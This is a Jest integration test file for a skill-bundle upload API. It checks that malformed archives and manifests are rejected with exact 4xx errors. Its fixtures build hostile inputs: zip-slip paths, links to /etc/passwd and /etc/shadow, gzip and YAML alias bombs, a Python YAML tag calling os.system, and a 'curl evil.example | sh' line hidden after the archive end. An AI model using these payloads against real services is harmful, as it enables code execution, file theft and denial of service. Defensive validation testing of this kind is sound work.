/**
 * Malformed bundles and manifests, over HTTP against real PostgreSQL and Redis: every one is refused
 * with the right 4xx and an RFC 9457 problem body that names the problem, and nothing is half-written.
 */
import { connect } from 'node:net';
import { randomBytes } from 'node:crypto';
// The module object itself (not an `import * as` copy), so the spy below replaces the function the hub calls.
import zlib from 'node:zlib';
import { stringify } from 'yaml';
import { writeBundle, type BundleInputFile } from '@skillhub/bundle';
import { agentSkillBundle, kazmaBundle, kazmaManifest, swarmkitSkill, uniqueName } from '@skillhub/testing';
import { gzip, rawEntry, rawTar, type RawEntry } from '../libs/bundle/src/testing/raw-tar';
import { startTestHub, type TestHub } from './support/test-hub';

const KiB = 1024;
const MiB = 1024 * KiB;

/** The limits of the second hub, small so that limit cases stay cheap. */
const LIMITS = { compressed: 256 * KiB, uncompressed: 1 * MiB, entries: 20 };

type HubName = 'main' | 'limits';

interface Attempt {
  bytes: Buffer;
  query?: string;
  /** Defaults to application/gzip. */
  contentType?: string;
  /** Sends the bytes as the multipart field `bundle` instead of as the body. */
  multipart?: boolean;
}

interface Case {
  hub?: HubName;
  make: () => Attempt;
  status: number | number[];
  code: string | string[];
  /** Each must match the problem's detail, error paths and error messages taken together. */
  says: RegExp[];
  /** For bombs: the most any single gunzip in the hub may be allowed to produce. */
  maxInflateBytes?: number;
}

const WEATHER_PY = 'class WeatherSkill:\n    def run(self, city):\n        return city\n';

/** One namespace for every hub; each hub's token is bound to it. */
const ns = uniqueName('malformed');

// ---------------------------------------------------------------- builders

/** A valid Kazma bundle as raw tar entries (root folder, manifest, entry point) plus `extra`, gzipped. */
const rawKazma = (extra: RawEntry[], o: { tail?: Buffer } = {}): Buffer => {
  const name = uniqueName('weather');
  const entries: RawEntry[] = [
    { name: `${name}/`, type: '5', mode: 0o755 },
    { name: `${name}/skill_manifest.yaml`, content: stringify(kazmaManifest({ name, author: ns })) },
    { name: `${name}/weather_skill.py`, content: WEATHER_PY },
    ...extra.map((e) => ({ ...e, name: typeof e.name === 'string' ? e.name.replace('{root}', name) : e.name })),
  ];
  return gzip(Buffer.concat([rawTar(...entries.map(rawEntry)), o.tail ?? Buffer.alloc(0)]));
};

/** A Kazma bundle whose manifest is the given text (everything else valid). */
const kazmaWithText = (name: string, text: string, extraFiles: BundleInputFile[] = []): Buffer =>
  writeBundle(
    [{ path: 'skill_manifest.yaml', content: text }, { path: 'weather_skill.py', content: WEATHER_PY }, ...extraFiles],
    { rootFolder: name },
  );

/** The valid manifest's YAML without `omit`, followed by `append`. */
const kazmaText = (name: string, omit: string[] = [], append = ''): string => {
  const manifest = kazmaManifest({ name, author: ns });
  for (const key of omit) delete manifest[key];
  return stringify(manifest) + append;
};

const kazmaWith = (manifest: Record<string, unknown>): Attempt => ({ bytes: kazmaBundle({ author: ns, manifest }) });

const swarmkitWith = (change: (skill: Record<string, unknown>) => void, folder?: string): Attempt => {
  const skill = swarmkitSkill();
  change(skill);
  const id = folder ?? String((skill.metadata as { id: unknown }).id);
  return {
    bytes: writeBundle(
      [
        { path: 'skill.yaml', content: stringify(skill) },
        {
          path: 'workspace.yaml',
          content: stringify({
            mcp_servers: [{ id: 'search', transport: 'stdio', command: ['npx', '-y', '@acme/search-mcp@1.2.3'] }],
          }),
        },
      ],
      { rootFolder: id },
    ),
  };
};

/** A SKILL.md with the given front matter lines, in a folder of the given name. */
const agentSkill = (folder: string, frontMatter: string): Buffer =>
  writeBundle(
    [
      { path: 'SKILL.md', content: `---\n${frontMatter}\n---\n\n# Tools\n\nUse scripts/extract.py.\n` },
      { path: 'scripts/extract.py', content: 'print("extract")\n' },
    ],
    { rootFolder: folder },
  );

/** 30 MiB of zeros as the data of one tar entry: gzips to about 30 KiB. Built once, lazily. */
let bombBytes: Buffer | null = null;
const gzipBomb = (): Buffer => {
  if (!bombBytes) {
    const size = 30 * MiB;
    const header = rawEntry({ name: 'bomb/zeros.bin', size });
    bombBytes = zlib.gzipSync(Buffer.concat([header.subarray(0, 512), Buffer.alloc(size), Buffer.alloc(1024)]), {
      level: 9,
    });
  }
  return bombBytes;
};

/**
 * Text from a small vocabulary: compresses about 8:1, so 1.1 MB of it stays under the limits hub's
 * compressed limit and far from its compression-ratio limit.
 */
const lowEntropyText = (bytes: number): string => {
  const words = [
    'alpha',
    'bravo',
    'charlie',
    'delta',
    'echo',
    'foxtrot',
    'golf',
    'hotel',
    'india',
    'juliet',
    'kilo',
    'lima',
    'mike',
    'november',
    'oscar',
    'papa',
  ];
  const random = randomBytes(bytes);
  let text = '';
  for (let i = 0; text.length < bytes; i++)
    text += words[random[i % random.length] % words.length] + (i % 12 === 11 ? '\n' : ' ');
  return text.slice(0, bytes);
};

/** A YAML "billion laughs": nine levels of nine aliases each would expand to 9^9 strings. */
const BILLION_LAUGHS = [
  'lol0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]',
  ...Array.from({ length: 8 }, (_, i) => `lol${i + 1}: &l${i + 1} [${Array(9).fill(`*l${i}`).join(', ')}]`),
  '',
].join('\n');

// ---------------------------------------------------------------- the cases

const ARCHIVE = 'BUNDLE.INVALID';
const MANIFEST = 'SKILL.INVALID_MANIFEST';

const cases: Array<[string, Case]> = [
  // --- paths and entry kinds (check C2)
  [
    'zip-slip: an entry named ../evil.py',
    {
      make: () => ({ bytes: rawKazma([{ name: '../evil.py', content: 'import os\n' }]) }),
      status: 400,
      code: ARCHIVE,
      says: [/\.\.\/evil\.py/, /'\.\.' segment/],
    },
  ],
  [
    'absolute path /etc/passwd',
    {
      make: () => ({ bytes: rawKazma([{ name: '/etc/passwd', content: 'root:x:0:0\n' }]) }),
      status: 400,
      code: ARCHIVE,
      says: [/\/etc\/passwd/, /path is absolute/],
    },
  ],
  [
    'a symbolic link',
    {
      make: () => ({ bytes: rawKazma([{ name: '{root}/link.py', type: '2', linkname: '/etc/passwd' }]) }),
      status: 400,
      code: ARCHIVE,
      says: [/link\.py/, /symbolic link to '\/etc\/passwd'/],
    },
  ],
  [
    'a hard link',
    {
      make: () => ({ bytes: rawKazma([{ name: '{root}/hard.py', type: '1', linkname: '/etc/shadow' }]) }),
      status: 400,
      code: ARCHIVE,
      says: [/hard\.py/, /hard link to '\/etc\/shadow'/],
    },
  ],
  [
    'a character device',
    {
      make: () => ({ bytes: rawKazma([{ name: '{root}/tty0', type: '3' }]) }),
      status: 400,
      code: ARCHIVE,
      says: [/tty0/, /character device/],
    },
  ],
  [
    'a FIFO',
    {
      make: () => ({ bytes: rawKazma([{ name: '{root}/pipe', type: '6' }]) }),
      status: 400,
      code: ARCHIVE,
      says: [/pipe/, /FIFO/],
    },
  ],
  [
    'a backslash in a name',
    {
      make: () => ({ bytes: rawKazma([{ name: '{root}/..\\..\\evil.py', content: 'x = 1\n' }]) }),
      status: 400,
      code: ARCHIVE,
      says: [/evil\.py/, /backslash/],
    },
  ],
  [
    'a NUL inside a name',
    {
      make: () => ({ bytes: rawKazma([{ name: Buffer.from('skill/evil\0.py'), content: 'x = 1\n' }]) }),
      status: 400,
      code: ARCHIVE,
      says: [/evil\\u0000\.py/, /NUL character/],
    },
  ],
  [
    'case-fold collision A.py + a.py',
    {
      make: () => ({
        bytes: rawKazma([
          { name: '{root}/A.py', content: 'a = 1\n' },
          { name: '{root}/a.py', content: 'a = 2\n' },
        ]),
      }),
      status: 400,
      code: ARCHIVE,
      says: [/'[^']*a\.py' and '[^']*A\.py' collide/],
    },
  ],
  [
    'NFC/NFD collision café.py',
    {
      make: () => ({
        bytes: rawKazma([
          { name: '{root}/caf\u00e9.py', content: 'a = 1\n' },
          { name: '{root}/cafe\u0301.py', content: 'a = 2\n' },
        ]),
      }),
      status: 400,
      code: ARCHIVE,
      says: [/caf/, /collide after Unicode NFC normalization/],
    },
  ],
  [
    'the same file twice',
    {
      make: () => ({ bytes: rawKazma([{ name: '{root}/weather_skill.py', content: 'import os\nos.system("id")\n' }]) }),
      status: 400,
      code: ARCHIVE,
      says: [/weather_skill\.py' appears more than once/],
    },
  ],

  // --- archive structure
  [
    'a tar header with a bad checksum',
    {
      make: () => ({ bytes: rawKazma([{ name: '{root}/extra.py', content: 'x = 1\n', checksumDelta: 1 }]) }),
      status: 400,
      code: ARCHIVE,
      says: [/extra\.py/, /bad checksum/],
    },
  ],
  [
    'data hidden after the end-of-archive marker',
    {
      make: () => ({ bytes: rawKazma([], { tail: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n') }) }),
      status: 400,
      code: ARCHIVE,
      says: [/data follows the end-of-archive marker/],
    },
  ],
  [
    'bytes that are not gzip',
    {
      make: () => ({ bytes: Buffer.from('PK\x03\x04 this is a zip, not a tar.gz') }),
      status: 400,
      code: ARCHIVE,
      says: [/not a gzip stream/],
    },
  ],
  [
    'a gzip of bytes that are not a tar',
    {
      make: () => ({
        bytes: zlib.gzipSync(Buffer.from('This is a plain text file, not a tar archive.\n'.repeat(100))),
      }),
      status: 400,
      code: ARCHIVE,
      says: [/malformed checksum field|bad checksum|not a ustar header/],
    },
  ],
  [
    'a gzip stream cut in half',
    {
      make: () => {
        const whole = kazmaBundle({ author: ns });
        return { bytes: whole.subarray(0, Math.floor(whole.length / 2)) };
      },
      status: 400,
      code: ARCHIVE,
      says: [/gzip stream is truncated/],
    },
  ],
  [
    'a complete gzip of a tar cut inside an entry',
    {
      make: () => {
        const tar = rawTar(
          rawEntry({ name: 'skill/skill_manifest.yaml', content: stringify(kazmaManifest({ author: ns })) }),
        );
        return { bytes: gzip(tar.subarray(0, 700)) };
      },
      status: 400,
      code: ARCHIVE,
      says: [/tar archive is truncated/],
    },
  ],
  [
    'an empty archive (only the end marker)',
    {
      make: () => ({ bytes: gzip(Buffer.alloc(10 * KiB)) }),
      status: 400,
      code: ARCHIVE,
      says: [/archive contains no files/],
    },
  ],
  [
    'an empty body',
    {
      make: () => ({ bytes: Buffer.alloc(0) }),
      // 400 would fit best (the media type is fine, the body is missing); 415 is tolerated.
      status: [400, 415],
      code: ['BUNDLE.INVALID', 'BUNDLE.UNSUPPORTED_MEDIA_TYPE', 'REQUEST.BODY_MISSING'],
      says: [/no bundle|bundle is missing|empty/i],
    },
  ],
  [
    'a valid bundle sent as text/plain',
    {
      make: () => ({ bytes: kazmaBundle({ author: ns }), contentType: 'text/plain' }),
      status: [415, 400],
      code: ['BUNDLE.UNSUPPORTED_MEDIA_TYPE', 'BUNDLE.INVALID'],
      says: [/no bundle found|bundle is missing/i, /application\/gzip/],
    },
  ],

  // --- limits (check C5)
  [
    'gzip bomb: 30 MiB of zeros under the default limits',
    {
      make: () => ({ bytes: gzipBomb() }),
      status: 413,
      code: 'BUNDLE.TOO_LARGE',
      says: [/expands to more than \d+ bytes/, /compression ratio|uncompressed limit/],
      maxInflateBytes: 8 * MiB,
    },
  ],
  [
    'gzip bomb: 30 MiB of zeros with BUNDLE_MAX_UNCOMPRESSED_BYTES=1 MiB',
    {
      hub: 'limits',
      make: () => ({ bytes: gzipBomb() }),
      status: 413,
      code: 'BUNDLE.TOO_LARGE',
      says: [/expands to more than \d+ bytes/, new RegExp(`limit of ${LIMITS.uncompressed}`)],
      maxInflateBytes: 2 * MiB,
    },
  ],
  [
    'files totalling more than BUNDLE_MAX_UNCOMPRESSED_BYTES (within the gunzip slack)',
    {
      hub: 'limits',
      make: () => ({
        bytes: kazmaBundle({
          author: ns,
          extraFiles: [{ path: 'data/words.txt', content: lowEntropyText(1_100_000) }],
        }),
      }),
      // The same limit as the bomb above: it must give the same status and code.
      status: 413,
      code: 'BUNDLE.TOO_LARGE',
      says: [new RegExp(`limit of ${LIMITS.uncompressed}`)],
    },
  ],
  [
    'more entries than BUNDLE_MAX_ENTRIES=20',
    {
      hub: 'limits',
      make: () => ({
        bytes: kazmaBundle({
          author: ns,
          extraFiles: Array.from({ length: 25 }, (_, i) => ({ path: `lib/m${i}.py`, content: `x = ${i}\n` })),
        }),
      }),
      // A limit, like the size limits (413); the reader calls the archive invalid (400). Either is fine.
      status: [400, 413],
      code: ['BUNDLE.INVALID', 'BUNDLE.TOO_LARGE'],
      says: [/more than 20 entries/],
    },
  ],
  [
    'a body over BUNDLE_MAX_COMPRESSED_BYTES',
    {
      hub: 'limits',
      make: () => ({
        bytes: Buffer.concat([Buffer.from([0x1f, 0x8b, 0x08, 0x00]), randomBytes(LIMITS.compressed + 40 * KiB)]),
      }),
      status: 413,
      code: ['REQUEST.BODY_TOO_LARGE', 'BUNDLE.TOO_LARGE'],
      says: [/larger than|too large|more than the limit/i],
    },
  ],
  [
    'a multipart upload over BUNDLE_MAX_COMPRESSED_BYTES',
    {
      hub: 'limits',
      make: () => ({
        bytes: Buffer.concat([Buffer.from([0x1f, 0x8b, 0x08, 0x00]), randomBytes(LIMITS.compressed + 40 * KiB)]),
        multipart: true,
      }),
      status: 413,
      code: ['REQUEST.BODY_TOO_LARGE', 'BUNDLE.TOO_LARGE'],
      says: [/larger than|too large|more than the limit/i],
    },
  ],

  // --- format detection
  [
    'no manifest in the folder',
    {
      make: () => ({
        bytes: writeBundle(
          [
            { path: 'main.py', content: 'print(1)\n' },
            { path: 'README.md', content: '# hi\n' },
          ],
          { rootFolder: 'nothing' },
        ),
      }),
      status: 422,
      code: MANIFEST,
      says: [/No skill manifest at the bundle root/, /Found: README\.md, main\.py/],
    },
  ],
  [
    'two manifests: skill_manifest.yaml and SKILL.md',
    {
      make: () => ({
        bytes: kazmaBundle({
          author: ns,
          extraFiles: [{ path: 'SKILL.md', content: '---\nname: x\ndescription: y\n---\nbody\n' }],
        }),
      }),
      status: 422,
      code: MANIFEST,
      says: [/More than one skill manifest/, /skill_manifest\.yaml \(kazma\)/, /SKILL\.md \(agent-skill\)/],
    },
  ],

  // --- YAML safety (check C1)
  [
    'YAML alias bomb ("billion laughs")',
    {
      make: () => {
        const name = uniqueName('laughs');
        return { bytes: kazmaWithText(name, kazmaText(name, [], BILLION_LAUGHS)) };
      },
      status: 422,
      code: MANIFEST,
      says: [/skill_manifest\.yaml/, /aliases refused/],
    },
  ],
  [
    'a custom YAML tag !!python/object/apply:os.system',
    {
      make: () => {
        const name = uniqueName('tag');
        return {
          bytes: kazmaWithText(
            name,
            kazmaText(
              name,
              ['description'],
              'description: !!python/object/apply:os.system ["curl evil.example | sh"]\n',
            ),
          ),
        };
      },
      status: 422,
      code: MANIFEST,
      says: [/skill_manifest\.yaml/, /YAML tag not allowed/, /python\/object/],
    },
  ],
  [
    'the manifest top level is a list',
    {
      make: () => {
        const name = uniqueName('list');
        return { bytes: kazmaWithText(name, stringify([{ name }, { version: '1.0.0' }])) };
      },
      status: 422,
      code: MANIFEST,
      says: [/skill_manifest\.yaml/, /top level must be a map of fields, got a list/],
    },
  ],
  [
    'a manifest over the parser cap (256 KiB)',
    {
      make: () => {
        const name = uniqueName('huge');
        const padding = Array.from({ length: 5000 }, () => `# ${randomBytes(32).toString('hex')}\n`).join('');
        return { bytes: kazmaWithText(name, kazmaText(name) + padding) };
      },
      status: 422,
      code: MANIFEST,
      says: [/skill_manifest\.yaml/, /Manifest is \d+ bytes; at most 262144/],
    },
  ],

  // --- Kazma manifest fields
  [
    'Kazma: version as a number',
    {
      make: () => kazmaWith({ version: 1.5 }),
      status: 422,
      code: MANIFEST,
      says: [/#version/, /version must be a string, got a number \(1\.5\)/],
    },
  ],
  [
    'Kazma: tags as a string',
    {
      make: () => kazmaWith({ tags: 'weather, forecast' }),
      status: 422,
      code: MANIFEST,
      says: [/#tags/, /tags must be a list, got a string/],
    },
  ],
  [
    'Kazma: permissions.required as a string',
    {
      make: () => kazmaWith({ permissions: { required: 'network_outbound' } }),
      status: 422,
      code: MANIFEST,
      says: [/#permissions\.required/, /must be a list, got a string/],
    },
  ],
  [
    'Kazma: version "1.0"',
    {
      make: () => kazmaWith({ version: '1.0' }),
      status: 422,
      code: MANIFEST,
      says: [/#version/, /X\.Y\.Z/, /"1\.0"/],
    },
  ],
  [
    'Kazma: version "v1.0.0"',
    {
      make: () => kazmaWith({ version: 'v1.0.0' }),
      status: 422,
      code: MANIFEST,
      says: [/#version/, /X\.Y\.Z/, /"v1\.0\.0"/],
    },
  ],
  [
    'Kazma: version "01.0.0"',
    {
      make: () => kazmaWith({ version: '01.0.0' }),
      status: 422,
      code: MANIFEST,
      says: [/#version/, /X\.Y\.Z/, /"01\.0\.0"/],
    },
  ],
  [
    'Kazma: name "Weather Skill"',
    {
      make: () => ({ bytes: kazmaBundle({ author: ns, name: 'Weather Skill' }) }),
      status: 422,
      code: MANIFEST,
      says: [/#name/, /kebab-case/, /"Weather Skill"/],
    },
  ],
  [
    'Kazma: description missing',
    {
      make: () => kazmaWith({ description: undefined }),
      status: 422,
      code: MANIFEST,
      says: [/#description/, /description is required/],
    },
  ],
  [
    'Kazma: author missing',
    {
      make: () => kazmaWith({ author: undefined }),
      status: 422,
      code: MANIFEST,
      says: [/#author/, /author is required/],
    },
  ],
  [
    'Kazma: license missing',
    {
      make: () => kazmaWith({ license: undefined }),
      status: 422,
      code: MANIFEST,
      says: [/#license/, /license is required/],
    },
  ],
  [
    'Kazma: entry_point file not in the bundle',
    {
      make: () => kazmaWith({ entry_point: 'forecast_skill:ForecastSkill' }),
      status: 422,
      code: MANIFEST,
      says: [/#entry_point/, /forecast_skill\.py, which is not in the bundle/],
    },
  ],
  [
    'Kazma: entry_point pointing outside the folder',
    {
      make: () => kazmaWith({ entry_point: '../../etc/evil.py' }),
      status: 422,
      code: MANIFEST,
      says: [/#entry_point/, /Python module beside the manifest/],
    },
  ],
  [
    'Kazma: mcp_servers entry with a bad type',
    {
      make: () =>
        kazmaWith({
          mcp_servers: [{ name: 'weather', type: 'websocket', command: ['npx', '-y', '@acme/weather-mcp'] }],
        }),
      status: 422,
      code: MANIFEST,
      says: [/#mcp_servers\[0\]\.type/, /must be one of stdio, sse, streamable-http/, /"websocket"/],
    },
  ],
  [
    'Kazma: a zero-width space hidden in the description',
    {
      make: () => kazmaWith({ description: 'Reports the weather\u200B for a city using a public API.' }),
      status: 422,
      code: MANIFEST,
      says: [/#description/, /hidden zero-width character U\+200B/],
    },
  ],
  [
    'Kazma: ?version= disagreeing with the manifest',
    {
      make: () => ({ bytes: kazmaBundle({ author: ns }), query: '?version=2.0.0' }),
      status: 422,
      code: MANIFEST,
      says: [/request says version 2\.0\.0 but the manifest says 1\.0\.0/],
    },
  ],

  // --- SwarmKit
  [
    'SwarmKit: unknown top-level key',
    {
      make: () =>
        swarmkitWith((s) => {
          s.run_as_root = true;
        }),
      status: 422,
      code: MANIFEST,
      says: [/skill\.yaml#run_as_root/, /"run_as_root" is not allowed at the top level/],
    },
  ],
  [
    'SwarmKit: bad metadata.id',
    {
      make: () =>
        swarmkitWith((s) => {
          (s.metadata as Record<string, unknown>).id = 'Web_Search';
        }),
      status: 422,
      code: MANIFEST,
      says: [/skill\.yaml#metadata\.id/, /kebab-case/, /"Web_Search"/],
    },
  ],
  [
    'SwarmKit: decision skill whose outputs lack reasoning',
    {
      make: () =>
        swarmkitWith((s) => {
          s.category = 'decision';
          s.implementation = { type: 'llm_prompt', prompt: 'Decide whether the change is safe.' };
          s.outputs = { type: 'object', properties: { answer: { type: 'string' } } };
        }),
      status: 422,
      code: MANIFEST,
      says: [/skill\.yaml#outputs\.properties/, /must declare "reasoning"/],
    },
  ],
  [
    'SwarmKit: mcp_tool without server',
    {
      make: () =>
        swarmkitWith((s) => {
          s.implementation = { type: 'mcp_tool', tool: 'web_search' };
        }),
      status: 422,
      code: MANIFEST,
      says: [/skill\.yaml#implementation\.server/, /implementation\.server is required/],
    },
  ],

  // --- Agent Skills
  [
    'Agent Skill: name not equal to the folder name',
    {
      make: () => ({
        bytes: agentSkill('pdf-tools', 'name: pdf-extractor\ndescription: Extracts text from PDF files.'),
        query: '?version=1.0.0',
      }),
      status: 422,
      code: MANIFEST,
      says: [/SKILL\.md#name/, /"pdf-extractor" must equal the skill's folder name "pdf-tools"/],
    },
  ],
  [
    'Agent Skill: name with a double hyphen',
    {
      make: () => ({ bytes: agentSkillBundle({ name: 'pdf--tools' }), query: '?version=1.0.0' }),
      status: 422,
      code: MANIFEST,
      says: [/SKILL\.md#name/, /must not contain "--"/],
    },
  ],
  [
    'Agent Skill: no ?version=',
    {
      make: () => ({ bytes: agentSkillBundle() }),
      status: 422,
      code: MANIFEST,
      says: [/version: Agent Skills carry no version/, /\?version=X\.Y\.Z/],
    },
  ],
  [
    'Agent Skill: description over 1024 characters',
    {
      make: () => ({
        bytes: agentSkillBundle({ description: 'Extracts text. '.repeat(70).trim() }),
        query: '?version=1.0.0',
      }),
      status: 422,
      code: MANIFEST,
      says: [/SKILL\.md#description/, /at most 1024/],
    },
  ],
  [
    'Agent Skill: a bidi override hidden in the description',
    {
      make: () => ({
        bytes: agentSkillBundle({ description: 'Extracts text \u202Efrom PDF files.' }),
        query: '?version=1.0.0',
      }),
      status: 422,
      code: MANIFEST,
      says: [/SKILL\.md#description/, /hidden bidirectional control character U\+202E/],
    },
  ],
];

// ---------------------------------------------------------------- the test

/** Matches any of the given values, and prints them in a failure. */
const oneOf = <T>(expected: T | T[]) => {
  const values = Array.isArray(expected) ? expected : [expected];
  return values.length === 1
    ? values[0]
    : {
        $$typeof: Symbol.for('jest.asymmetricMatcher'),
        asymmetricMatch: (actual: unknown) => values.includes(actual as T),
        toAsymmetricMatcher: () => `oneOf(${values.join(' | ')})`,
      };
};

interface ProblemBody {
  type?: string;
  title?: string;
  status?: number;
  detail?: string;
  code?: string;
  instance?: string;
  errors?: Array<{ path: string; message: string; severity: string }>;
}

describe('malformed bundles and manifests are refused with a precise 4xx and store nothing', () => {
  const hubs = {} as Record<HubName, { hub: TestHub; token: string }>;

  beforeAll(async () => {
    const main = await startTestHub({ env: { PUBLISH_RATE_LIMIT_PER_MINUTE: '100000' } });
    hubs.main = { hub: main, token: await main.token(ns) };
    const limits = await startTestHub({
      env: {
        PUBLISH_RATE_LIMIT_PER_MINUTE: '100000',
        BUNDLE_MAX_COMPRESSED_BYTES: String(LIMITS.compressed),
        BUNDLE_MAX_UNCOMPRESSED_BYTES: String(LIMITS.uncompressed),
        BUNDLE_MAX_ENTRIES: String(LIMITS.entries),
      },
    });
    hubs.limits = { hub: limits, token: await limits.token(ns) };
  });
  afterAll(async () => {
    await Promise.all(Object.values(hubs).map(({ hub }) => hub.close()));
  });

  it.each([
    ['a raw bundle', 'application/gzip'],
    ['a multipart upload', 'multipart/form-data; boundary=x'],
  ])(
    'answers 413 to %s that declares 1 GiB before any of it is sent, and closes the connection',
    async (_what, type) => {
      const { hub, token } = hubs.main;
      const { hostname, port } = new URL(hub.baseUrl);
      // Only the headers go out: an answer proves the hub did not wait for (or drain) the body.
      const answer = await new Promise<string>((resolve, reject) => {
        const socket = connect(Number(port), hostname, () =>
          socket.write(
            `POST /api/v1/skills HTTP/1.1\r\nHost: ${hostname}:${port}\r\nAuthorization: Bearer ${token}\r\n` +
              `Content-Type: ${type}\r\nContent-Length: 1073741824\r\n\r\n`,
          ),
        );
        let received = '';
        socket.on('data', (chunk) => (received += chunk.toString('utf8')));
        socket.on('close', () => resolve(received));
        socket.on('error', reject);
      });

      expect(answer).toMatch(/^HTTP\/1\.1 413 /);
      expect(answer).toMatch(/connection: close/i);
      expect(answer).toContain('"code":"REQUEST.BODY_TOO_LARGE"');
      expect(answer).toContain('declares 1073741824 bytes');
    },
  );

  it('has the cases the brief asks for', () => {
    expect(cases.length).toBeGreaterThanOrEqual(30);
    expect(new Set(cases.map(([title]) => title)).size).toBe(cases.length);
  });

  it.each(cases)('%s', async (_title, c) => {
    const { hub, token } = hubs[c.hub ?? 'main'];
    const attempt = c.make();
    const before = await hub.counts();

    const gunzip = jest.spyOn(zlib, 'gunzipSync');
    const arrayBuffersBefore = process.memoryUsage().arrayBuffers;
    let res;
    let inflations: Array<Parameters<typeof zlib.gunzipSync>>;
    try {
      const req = hub.http.post(`/api/v1/skills${attempt.query ?? ''}`).set('authorization', `Bearer ${token}`);
      res = attempt.multipart
        ? await req.attach('bundle', attempt.bytes, { filename: 'skill.tar.gz', contentType: 'application/gzip' })
        : await req.set('content-type', attempt.contentType ?? 'application/gzip').send(attempt.bytes);
    } finally {
      // Copied first: mockRestore() also forgets the calls.
      inflations = [...gunzip.mock.calls];
      gunzip.mockRestore();
    }
    const arrayBuffersGrowth = process.memoryUsage().arrayBuffers - arrayBuffersBefore;

    const body = res.body as ProblemBody;
    const errors = Array.isArray(body.errors) ? body.errors : [];
    const said = [body.detail ?? '', ...errors.map((e) => `${e.path}: ${e.message}`)].join('\n');
    // One object first, so a failure shows status, code and what the hub said together.
    expect({ status: res.status, code: body.code, said }).toEqual({
      status: oneOf(c.status),
      code: oneOf(c.code),
      said,
    });
    expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(body).toMatchObject({
      status: res.status,
      instance: '/api/v1/skills',
      type: expect.any(String),
      title: expect.any(String),
    });
    for (const pattern of c.says) expect(said).toMatch(pattern);
    for (const e of errors)
      expect(e).toEqual({
        path: expect.any(String),
        message: expect.any(String),
        severity: expect.stringMatching(/^(error|warning)$/),
      });
    if (body.code === MANIFEST) expect(errors.some((e) => e.severity === 'error')).toBe(true);

    if (c.maxInflateBytes !== undefined) {
      // The bomb is refused while inflating: no gunzip may be allowed to produce its 30 MiB.
      for (const [, options] of inflations) {
        const cap = (options as zlib.ZlibOptions | undefined)?.maxOutputLength;
        expect(cap).toBeDefined();
        expect(cap).toBeLessThanOrEqual(c.maxInflateBytes);
      }
      expect(arrayBuffersGrowth).toBeLessThan(16 * MiB);
    }

    expect(await hub.counts()).toEqual(before);
  });
});
